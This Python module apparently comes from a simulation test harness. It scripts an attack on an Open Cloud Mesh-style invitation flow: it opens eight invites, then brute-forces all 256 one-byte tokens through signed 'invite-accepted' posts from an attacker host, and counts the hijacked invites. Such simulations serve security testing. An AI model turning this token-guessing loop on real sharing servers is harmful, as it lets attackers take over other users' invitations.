"""Tokens of invites are guessed."""

from base64 import urlsafe_b64encode

from meshsim.attackers import EVIL, VICTIM, Arena, Attack
from meshsim.ocm.lifecycle import Deal
from meshsim.site.records import INVITATIONS

INVITES, TRIES, PAUSE = 8, 256, 0.1


def build() -> Attack:
    """No options. There are open invites, and all tokens of one byte are tried."""

    async def act(arena: Arena) -> None:
        for _ in range(INVITES):
            arena.alice.invite()
        for number in range(TRIES):
            acceptance = {
                "recipientProvider": EVIL,
                "token": urlsafe_b64encode(bytes([number])).rstrip(b"=").decode(),
                "userID": f"mallory{number}",
                "email": "",
                "name": "Mallory",
            }
            arena.spawn(arena.send(arena.signed(arena.post("/ocm/invite-accepted", acceptance))))
            await arena.mesh.sleep(PAUSE)

    def got(arena: Arena) -> int:
        rows = arena.mesh.store(VICTIM).rows(INVITATIONS)
        return sum(row.state is Deal.DONE and row.acceptor.host == EVIL for row in rows)

    goal = f"{INVITES} invites for nobody taken up, with {TRIES} tries in 26 s"
    return Attack(goal, INVITES - 2, act, got)  # two may have the same token by chance
